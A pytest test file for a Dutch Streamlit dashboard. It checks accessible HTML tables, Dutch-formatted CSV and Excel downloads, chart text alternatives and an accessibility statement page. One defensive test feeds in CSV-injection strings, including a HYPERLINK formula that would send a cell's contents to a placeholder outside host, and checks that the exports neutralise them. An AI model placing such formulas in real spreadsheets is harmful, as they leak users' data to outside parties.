"""Issue 15, readable by everyone: every figure's data as a real HTML table (caption, th scope, Dutch
headers and numbers), downloads with Dutch headers and a notes part, charts with a text alternative
and without Streamlit's chart theme."""
from __future__ import annotations

import io
import json
import time
from html.parser import HTMLParser

import openpyxl
import pandas as pd
import pytest
from streamlit.testing.v1 import AppTest

from dashboard.kern import components
from tests.conftest import REPO


class _Tabellen(HTMLParser):
    """The <table>s of an HTML text: caption, header cells (with their scope) and rows of cell text."""

    def __init__(self):
        super().__init__()
        self.tabellen: list[dict] = []
        self._cel: list[str] | None = None
        self._rij: list | None = None
        self._in_caption = False

    def handle_starttag(self, tag, attrs):
        if tag == "table":
            self.tabellen.append({"caption": "", "koppen": [], "rijen": [], "scopes": []})
        elif tag == "caption":
            self._in_caption = True
        elif tag == "tr":
            self._rij = []
        elif tag in ("th", "td"):
            self._cel = []
            if tag == "th":
                self.tabellen[-1]["scopes"].append(dict(attrs).get("scope"))

    def handle_endtag(self, tag):
        if tag == "caption":
            self._in_caption = False
        elif tag in ("th", "td") and self._cel is not None:
            self._rij.append("".join(self._cel).strip())
            self._cel = None
        elif tag == "tr" and self._rij is not None:
            t = self.tabellen[-1]
            (t["rijen"] if t["koppen"] else t["koppen"]).append(self._rij) if t["koppen"] else t["koppen"].extend(
                self._rij)
            self._rij = None

    def handle_data(self, data):
        if self._in_caption:
            self.tabellen[-1]["caption"] += data
        elif self._cel is not None:
            self._cel.append(data)


def html_tabellen(html: str) -> list[dict]:
    p = _Tabellen()
    p.feed(html)
    return p.tabellen


def html_frames(at: AppTest) -> list[pd.DataFrame]:
    """Every HTML table on an AppTest page as a DataFrame of its cell texts (headers as columns)."""
    frames = []
    for el in at.get("html"):
        for t in html_tabellen(el.proto.body):
            frames.append(pd.DataFrame(t["rijen"], columns=t["koppen"]))
    return frames


def _cellen(html: str) -> list[list[str]]:
    t = html_tabellen(html)[0]
    return [t["koppen"], *t["rijen"]]


# --- the HTML table itself -------------------------------------------------------------------------

def test_html_table_has_caption_column_and_row_headers_dutch_headers_and_dutch_numbers():
    df = pd.DataFrame({"regio_naam": ["Gooi en Vechtstreek", "Nederland"], "waarde": [40.4, 12106.0],
                       "eenheid": ["procent", "personen"], "periode": ["2025-Q2", "2025-09"],
                       "periode_type": ["kwartaal", "maand"], "volgorde": [1, 2]})
    html = components.html_tabel(df, "Gegevens: groene druk")
    t = html_tabellen(html)[0]
    assert t["caption"] == "Gegevens: groene druk"
    assert t["koppen"] == ["Gebied", "Waarde", "Eenheid", "Periode"]   # technical columns left out
    assert t["scopes"] == ["col"] * 4 + ["row", "row"]                 # headers, then one row header per row
    assert t["rijen"] == [["Gooi en Vechtstreek", "40,4%", "procent", "Q2 2025"],
                          ["Nederland", "12.106", "personen", "september 2025"]]


def test_empty_values_are_a_dash_with_the_sources_reason_never_none_nan_or_blank():
    df = pd.DataFrame({"categorie": ["A", "B", "C", "D"],
                       "aantal": [1657.0, float("nan"), None, 3.0],
                       "tekst": ["x", None, "None", pd.NA],
                       "reden": [None, "niet gepubliceerd", None, None]})
    df["tekst"] = df["tekst"].astype("string")
    html = components.html_tabel(df, "t")
    rijen = html_tabellen(html)[0]["rijen"]
    assert rijen[0][1] == "1.657"
    assert rijen[1][1] == "— (niet gepubliceerd)" and rijen[1][2] == "— (niet gepubliceerd)"
    assert rijen[2][1] == "—" and rijen[2][2] == "—" and rijen[3][2] == "—"
    for woord in ("None", "nan", "NaN", "<NA>"):
        assert woord not in "".join(c for r in rijen for c in r)
    assert all(c.strip() for r in rijen for c in r)   # no blank cell that could be read as zero


def test_headers_already_in_dutch_stay_and_warehouse_names_become_dutch():
    assert components.kolomkop("alle regio's: aantal") == "alle regio's: aantal"
    assert components.kolomkop("Gooi en Vechtstreek") == "Gooi en Vechtstreek"
    assert components.kolomkop("regio_naam") == "Gebied"
    assert components.kolomkop("vergelijk_aandeel_berekend") == "Vergelijking: aandeel (berekend)"
    assert components.kolomkop("regio_peildatum") == "Regio: peildatum"


def test_a_table_of_fifty_rows_renders_within_2_ms():
    df = pd.DataFrame({"categorie": [f"Beroepsklasse {i}" for i in range(50)],
                       "regio_aantal": [1000.0 + i for i in range(50)], "regio_aandeel": [i / 3 for i in range(50)],
                       "vergelijk_aantal": [None if i % 7 == 0 else 55050.0 * i for i in range(50)],
                       "periode": ["2025-Q2"] * 50, "bron": ["UWV"] * 50, "kwalificatie": [None] * 50})
    components.html_tabel(df, "warm")
    tijden = []
    for _ in range(30):
        t0 = time.perf_counter()
        components.html_tabel(df, "Gegevens")      # uncached: the real cost, not the per-build cache
        tijden.append((time.perf_counter() - t0) * 1000)
    tijden.sort()
    mediaan = tijden[len(tijden) // 2]
    print(f"HTML-tabel 50 rijen x 7 kolommen: mediaan {mediaan:.2f} ms")
    assert mediaan <= 2.0, f"{mediaan:.2f} ms"


def test_a_table_is_a_keyboard_reachable_scroll_region_named_by_its_caption():
    df = pd.DataFrame({"n": list(range(components.LANG + 1))})
    for html, naam in [(components.html_tabel(df, "Lang", lang=True), "Lang"),
                       (components.html_tabel(df.head(3), "Kort"), "Kort")]:
        assert 'tabindex="0"' in html and 'role="region"' in html and f'aria-label="{naam}"' in html
    assert "tg-lang" in components.html_tabel(df, "Lang", lang=True)   # scrolls down within max-height


# --- downloads ------------------------------------------------------------------------------------

def test_downloads_have_dutch_headers_rounded_values_and_the_notes():
    df = pd.DataFrame({"regio_naam": ["Gooi en Vechtstreek"], "regio_aandeel_berekend": [55.88642659279778],
                       "vacatures_per_ww": [4.455445544554], "regio_aantal": [900.0]})
    notities = ("344 WW-uitkeringen hebben geen beroepsklasse.",)
    csv = components.csv_bytes(df, "UWV", "Q2 2025", "Vacatures per WW-uitkering.", notities).decode("utf-8-sig")
    regels = csv.splitlines()
    assert regels[0] == "Gebied;Regio: aandeel (berekend);Vacatures per WW-uitkering;Regio: aantal;Bron;Peildatum"
    assert regels[1] == "Gooi en Vechtstreek;55,9;4,46;900;UWV;Q2 2025"
    assert regels[2] == ""
    assert regels[3:] == ["Toelichting;Tekst", "Bron;UWV", "Peildatum;Q2 2025",
                          "Definitie;Vacatures per WW-uitkering.", f"Noot;{notities[0]}"]
    boek = openpyxl.load_workbook(io.BytesIO(components.excel_bytes(df, "UWV", "Q2 2025", "Def.", notities)))
    assert boek.sheetnames == ["gegevens", "toelichting"]
    gegevens = list(boek["gegevens"].values)
    assert gegevens[0][:2] == ("Gebied", "Regio: aandeel (berekend)") and gegevens[1][1:4] == (55.9, 4.46, 900)
    assert list(boek["toelichting"].values)[1:] == [("Bron", "UWV"), ("Peildatum", "Q2 2025"), ("Definitie", "Def."),
                                                   ("Noot", notities[0])]


# --- charts ---------------------------------------------------------------------------------------

def test_a_chart_without_its_own_table_gets_its_numbers_as_a_table():
    import plotly.graph_objects as go

    from dashboard.figuren import tonen
    fig = go.Figure([go.Scatter(x=["2024-Q1", "2024-Q2"], y=[3.9, 3.7], name="Werkloosheid"),
                     go.Scatter(x=["2024-Q2", "2024-Q3"], y=[3.5, None], name="Nederland")])
    tabel = tonen.tabel_uit_grafiek(fig)
    assert list(tabel.columns) == ["Periode", "Werkloosheid", "Nederland"]
    assert tabel.to_dict("records")[1] == {"Periode": "2024-Q2", "Werkloosheid": 3.7, "Nederland": 3.5}
    rijen = html_tabellen(components.html_tabel(tabel, "t"))[0]["rijen"]
    assert rijen == [["Q1 2024", "3,9", "—"], ["Q2 2024", "3,7", "3,5"], ["Q3 2024", "—", "—"]]


PAGINAS = ["app_pages/toegankelijkheid.py", "app_pages/overzicht.py", "app_pages/analyse.py", "app_pages/mismatch.py", "app_pages/vacatures.py",
           "app_pages/werkzoekenden.py", "app_pages/ww.py", "app_pages/banen.py", "app_pages/bevolking.py",
           "app_pages/regios.py", "app_pages/monitor.py", "app_pages/bronnen.py"]


def _pagina(pagina: str) -> AppTest:
    at = AppTest.from_file(str(REPO / "app.py"), default_timeout=60)
    at.run()
    at.switch_page(pagina).run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def _grafiek_getallen(trace: dict) -> list[str]:
    """The numbers a chart shows: its value labels where it has them, else its values (Dutch, as the table)."""
    from dashboard.kern import format as fmt
    teksten = trace.get("text")
    if isinstance(teksten, list) and any(isinstance(t, str) and any(ch.isdigit() for ch in t) for t in teksten):
        return [t for t in teksten if isinstance(t, str) and any(ch.isdigit() for ch in t)]
    waarden = trace.get("x") if trace.get("orientation") == "h" else trace.get("y")
    return [fmt.getal(v, fmt._decimalen(v, 2)) for v in waarden or [] if isinstance(v, (int, float))]


@pytest.mark.parametrize("pagina", PAGINAS)
def test_every_charts_numbers_are_text_in_an_html_table_on_its_page(warehouse, pagina):
    at = _pagina(pagina)
    tabeltekst = "\n".join(c for el in at.get("html") for t in html_tabellen(el.proto.body)
                           for r in [t["koppen"], *t["rijen"]] for c in r)
    for chart in at.get("plotly_chart"):
        spec = json.loads(chart.proto.spec)
        for trace in spec["data"]:
            if trace.get("hoverinfo") == "skip" and not trace.get("text"):
                continue   # a connecting line or a target line: its numbers belong to other traces
            ontbreekt = [g for g in _grafiek_getallen(trace) if g not in tabeltekst]
            assert not ontbreekt, f"{pagina}, {trace.get('name')}: {ontbreekt} staan in geen HTML-tabel"


@pytest.mark.parametrize("pagina", PAGINAS)
def test_every_chart_has_a_text_alternative_and_is_drawn_without_streamlits_chart_theme(warehouse, pagina):
    at = _pagina(pagina)
    for chart in at.get("plotly_chart"):
        assert chart.proto.alt.strip(), f"{pagina}: grafiek zonder tekstalternatief"
        assert chart.proto.theme == "", f"{pagina}: Streamlit's grafiekthema overschrijft de huisstijl"


# --- the toegankelijkheidsverklaring -------------------------------------------------------------------

def _rapport(overtredingen: list[dict]) -> dict:
    return {"gemaakt": "2026-11-29T14:00:00+00:00", "tags": ["wcag2aa"], "paginas": [
        {"pagina": "Overzicht", "axe": "4.14.1", "geslaagd": ["html-has-lang", "list"], "onvolledig": ["color-contrast"],
         "criteria": {"html-has-lang": ["wcag311"], "list": ["wcag131"], "color-contrast": ["wcag143"]},
         "overtredingen": []},
        {"pagina": "Mismatch", "axe": "4.14.1", "geslaagd": ["html-has-lang", "color-contrast"], "onvolledig": [],
         "criteria": {"html-has-lang": ["wcag311"], "list": ["wcag131"], "color-contrast": ["wcag143"]},
         "overtredingen": overtredingen},
    ]}


def test_the_verklaring_counts_per_wcag_criterion_what_passed_needs_a_check_or_failed():
    from dashboard.kern import toegankelijkheid as tg
    assert tg.criterium("wcag1410") == "1.4.10" and tg.criterium("wcag143") == "1.4.3"
    rijen = {r["criterium"]: r for r in tg.per_criterium(_rapport([
        {"regel": "list", "impact": "serious", "aantal": 3, "help": "", "tags": ["wcag131"], "voorbeeld": ["ul"]}]))}
    assert list(rijen) == ["1.3.1", "1.4.3", "3.1.1"]   # in WCAG order
    assert (rijen["1.3.1"]["geslaagd"], rijen["1.3.1"]["fout"], rijen["1.3.1"]["fout_regels"]) == (1, 1, ["list (serious)"])
    assert (rijen["1.4.3"]["geslaagd"], rijen["1.4.3"]["nakijken"]) == (1, 1)
    assert rijen["3.1.1"]["geslaagd"] == 2
    assert tg.samenvatting(_rapport([{"regel": "list", "impact": "serious", "aantal": 3}]))["ernstig"] == 3


def test_the_verklaring_page_reads_the_report_and_names_the_contact(warehouse, tmp_path, monkeypatch):
    pad = tmp_path / "axe-rapport.json"
    pad.write_text(json.dumps(_rapport([{"regel": "list", "impact": "serious", "aantal": 3, "help": "",
                                         "tags": ["wcag131"], "voorbeeld": ["ul"]}])))
    monkeypatch.setenv("AXE_RAPPORT", str(pad))
    monkeypatch.setenv("TOEGANKELIJKHEID_CONTACT", "toegankelijkheid@example.nl")
    at = _pagina("app_pages/toegankelijkheid.py")
    tekst = "\n".join(m.value for m in at.markdown)
    assert "**Nalevingsstatus: voldoet niet.**" in tekst and "**3** ernstige of kritieke" in tekst
    assert "toegankelijkheid@example.nl" in tekst
    criteria = html_frames(at)[0].set_index("Succescriterium")
    assert criteria.loc["1.3.1", "Voldoet niet op"] == "1" and criteria.loc["1.3.1", "Bevindingen"] == "list (serious)"
    assert "https://github.com/streamlit/streamlit/issues/15726" in html_frames(at)[1]["Melding bij Streamlit"].tolist()


def test_the_verklaring_page_says_when_there_is_no_report_or_contact(warehouse, tmp_path, monkeypatch):
    monkeypatch.setenv("AXE_RAPPORT", str(tmp_path / "ontbreekt.json"))
    monkeypatch.delenv("TOEGANKELIJKHEID_CONTACT", raising=False)
    at = _pagina("app_pages/toegankelijkheid.py")
    meldingen = "\n".join(i.value for i in at.info)
    assert "Er is nog geen toetsrapport" in meldingen and "Er is nog geen contactadres ingesteld" in meldingen


def test_a_slides_table_is_hidden_from_sight_but_not_from_screen_readers_and_is_no_tab_stop():
    html = components.html_tabel(pd.DataFrame({"categorie": ["Zorg"], "aantal": [900.0]}), "Gegevens: dia")
    verborgen = components.html_tabel(pd.DataFrame({"categorie": ["Zorg"], "aantal": [900.0]}), "Gegevens: dia",
                                      verborgen=True)
    assert html_tabellen(verborgen)[0]["rijen"] == html_tabellen(html)[0]["rijen"] == [["Zorg", "900"]]
    assert 'class="sr-only"' in verborgen and "tabindex" not in verborgen
    assert ".sr-only" in components.PAGINA_CSS   # the class is defined on every page


def test_downloads_neutralise_formulas_but_keep_numbers_and_dutch_number_texts():
    """OWASP CSV injection: a project name like =HYPERLINK(...) must never become a live formula."""
    import io

    import openpyxl
    import pandas as pd

    from dashboard.kern import components

    df = pd.DataFrame({"Project": ['=HYPERLINK("https://x.example/?d="&A1,"Zorgstart")', "@SUM(A1)", "+31 6",
                                   "-1+1", "Zorgstart"],
                       "Mutatie": ["-4%", "-1.900", "+2,5", "12", "—"],
                       "Aantal": [1, -2, 3, 4, 5]})
    csv = components.csv_bytes(df, "bron", "2025").decode("utf-8-sig")
    assert "'=HYPERLINK" in csv and "\n'@SUM(A1)" in csv and "\n'+31 6" in csv and "\n'-1+1" in csv
    assert ";-4%;" in csv and ";-1.900;" in csv and ";+2,5;" in csv and ";-2" in csv
    blad = openpyxl.load_workbook(io.BytesIO(components.excel_bytes(df, "bron", "2025")))["gegevens"]
    cellen = [[c.value for c in rij] for rij in blad.iter_rows(min_row=2, max_col=3)]
    assert cellen[0][0].startswith("'=HYPERLINK") and blad.cell(2, 1).data_type == "s"
    assert [r[2] for r in cellen] == [1, -2, 3, 4, 5]          # numbers stay numbers
    assert not any(str(v).startswith("=") for r in cellen for v in r)


# --- the slides' tables, and room for labels at 200 % zoom (640 px) -------------------------------------

def _dia(nr: int, tabel: str | None = None) -> AppTest:
    at = AppTest.from_file(str(REPO / "app_pages" / "analyse.py"), default_timeout=60)
    at.query_params["presentatie"] = "1"
    at.query_params["dia"] = str(nr)
    if tabel is not None:
        at.query_params["tabel"] = tabel
    at.run()
    assert not at.exception, [e.message for e in at.exception]
    return at


def _zichtbaar_en_verborgen(at: AppTest) -> tuple[list[dict], list[dict]]:
    """The HTML tables on the page: (shown, visually hidden for screen readers)."""
    zichtbaar, verborgen = [], []
    for el in at.get("html"):
        body = el.proto.body
        for t in html_tabellen(body):
            (verborgen if '<div class="sr-only">' in body else zichtbaar).append(t)
    return zichtbaar, verborgen


def test_every_slide_with_a_chart_has_a_toon_tabel_button_that_shows_its_numbers_in_the_charts_place(warehouse):
    from dashboard.analyse import document as analyse
    from dashboard.analyse import presentatie
    doc = analyse.live("AM12")
    met_grafiek = [nr for nr, d in enumerate(presentatie.dias(doc), start=1)
                   if d.get("figuur") and d["figuur"].get("grafiek")]
    assert len(met_grafiek) >= 7
    for nr in met_grafiek:
        at = _dia(nr)
        knop = next(b for b in at.button if b.key == "dia-tabel")
        assert knop.label == "Toon tabel" and "(T)" in knop.help
        assert len(at.get("plotly_chart")) == 1
        zichtbaar, verborgen = _zichtbaar_en_verborgen(at)
        assert not zichtbaar and len(verborgen) == 1, f"dia {nr}"   # for screen readers only
        verborgen_bij_grafiek = verborgen
        tabeltekst = {c for r in [verborgen[0]["koppen"], *verborgen[0]["rijen"]] for c in r}
        tabeltekst = "\n".join(tabeltekst)
        getallen = 0
        for trace in json.loads(at.get("plotly_chart")[0].proto.spec)["data"]:
            if trace.get("hoverinfo") == "skip" and not trace.get("text"):
                continue
            getallen += len(_grafiek_getallen(trace))
            ontbreekt = [g for g in _grafiek_getallen(trace) if g not in tabeltekst]
            assert not ontbreekt, f"dia {nr}, {trace.get('name')}: {ontbreekt} staan niet in de tabel van de dia"
        assert getallen, f"dia {nr}: the chart shows no numbers?"
        knop.click().run()
        assert not at.exception
        assert at.query_params["tabel"] in (str(nr), [str(nr)])
        at = _dia(nr, tabel=str(nr))       # as the browser asks for it after the click (the URL)
        assert not at.get("plotly_chart"), f"dia {nr}: the table takes the chart's place"
        zichtbaar, verborgen = _zichtbaar_en_verborgen(at)
        assert len(zichtbaar) == 1 and not verborgen, f"dia {nr}"
        vorig = verborgen_bij_grafiek[0]
        assert zichtbaar[0]["rijen"] == vorig["rijen"] and zichtbaar[0]["rijen"], f"dia {nr}: same numbers"
        assert zichtbaar[0]["caption"] == vorig["caption"] and zichtbaar[0]["caption"].startswith("Gegevens: ")
        knop = next(b for b in at.button if b.key == "dia-tabel")
        assert knop.label == "Toon grafiek"
        knop.click().run()
        assert "tabel" not in at.query_params


def test_a_table_asked_for_one_slide_leaves_the_next_slides_chart(warehouse):
    """?tabel= names its slide: after Volgende the next slide shows its chart, not a table."""
    from dashboard.analyse import document as analyse
    from dashboard.analyse import presentatie
    alle = presentatie.dias(analyse.live("AM12"))
    nr = next(i for i, d in enumerate(alle, start=1) if i > 1 and d.get("figuur") and d["figuur"].get("grafiek")
              and alle[i].get("figuur") and alle[i]["figuur"].get("grafiek"))
    at = _dia(nr + 1, tabel=str(nr))
    assert len(at.get("plotly_chart")) == 1
    assert next(b for b in at.button if b.key == "dia-tabel").label == "Toon tabel"


def test_slide_chart_takes_the_whole_width_where_streamlit_stacks_the_columns():
    from dashboard.analyse.presentatie import SMAL, dia_maten
    breed, smal = dia_maten(1280, 720), dia_maten(SMAL, 360)
    assert breed["breedte"] < (1280 - 64) * 7 / 12          # the right-hand column
    assert smal["breedte"] >= (SMAL - 64) * 0.95             # the whole width under the text
    assert smal["hoogte"] >= 220 and smal["letter"] >= 12


def test_live_charts_leave_room_for_values_outside_their_bars_and_wrap_long_axis_titles():
    from dashboard.figuren import charts
    fig = components.leesbaar(charts.vergelijking_staaf(["Groene druk"], [40.5], [35.2], "Gooi en Vechtstreek",
                                                        "Nederland"))
    assert fig.layout.margin.r >= charts.tekst_breedte("40,5%", 15) + 10
    lang = components.leesbaar(charts.spanning_staaf(["Zorg en welzijn beroepen"], [4.46], ["zeer krap"]))
    teksten = [t for tr in lang.data for t in (tr.text or ()) if t]
    assert lang.layout.margin.r >= max(charts.tekst_breedte(t, 15) for t in teksten) + 10
    titel = lang.layout.xaxis.title.text
    assert "<br>" in titel and all(len(r) <= components.AS_TITEL_TEKENS for r in titel.split("<br>"))
    # long category names on two lines where the rows are high enough, short ones as they are
    namen = ["Openbaar bestuur, veiligheid en juridische beroepen · cruciaal", "Managers"]
    bars = components.leesbaar(charts.staaf(namen, [2.5, 7.1], "aandeel", eenheid="%", hoogte=400))
    assert list(bars.layout.yaxis.tickvals) == namen
    assert "<br>" in bars.layout.yaxis.ticktext[0] and bars.layout.yaxis.ticktext[1] == "Managers"
    assert all(len(r) <= components.CATEGORIE_TEKENS for r in bars.layout.yaxis.ticktext[0].split("<br>"))
    laag = components.leesbaar(charts.staaf(namen, [2.5, 7.1], "aandeel", eenheid="%", hoogte=150))
    assert laag.layout.yaxis.tickmode != "array"   # rows too low for two lines: one line
    # a chart without values outside its bars keeps the house margin
    lijn = components.leesbaar(charts.lijnen([("Gooi en Vechtstreek", ["2024", "2025"], [1.0, 2.0])]))
    assert lijn.layout.margin.r == charts.house_layout()["margin"]["r"]
